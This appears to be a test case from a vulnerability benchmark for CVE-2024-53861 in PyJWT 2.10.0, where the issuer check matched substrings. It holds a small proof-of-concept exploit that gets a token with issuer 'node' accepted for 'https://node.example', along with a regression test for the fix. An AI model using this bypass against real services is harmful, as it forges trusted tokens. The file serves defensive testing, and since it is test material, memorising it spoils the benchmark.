# /// case
# id = "CVE-2024-53861"
# package = "PyJWT"
# vulnerable = "2.10.0"
# fixed = "2.10.1"
# what = "any part of the expected issuer's name passes as the issuer"
# shape = "one method"
# modules = ["jwt"]
# ///
"""A text is a sequence too, so `in` looked for the token's issuer inside the expected one."""

from jwt import InvalidIssuerError, decode, encode

KEY = "a key of the right length for it"


def exploit() -> bool:
    token = encode({"iss": "node"}, KEY, algorithm="HS256")
    try:
        decode(token, KEY, algorithms=["HS256"], issuer="https://node.example")
    except InvalidIssuerError:
        return False
    return True


def regression() -> None:
    token = encode({"iss": "node", "sub": "7"}, KEY, algorithm="HS256")
    assert decode(token, KEY, algorithms=["HS256"], issuer="node")["sub"] == "7"
    assert decode(token, KEY, algorithms=["HS256"], issuer=["other", "node"])["sub"] == "7"
    try:
        decode(token, KEY, algorithms=["HS256"], issuer=["other"])
    except InvalidIssuerError:
        return
    raise AssertionError("another issuer was accepted")
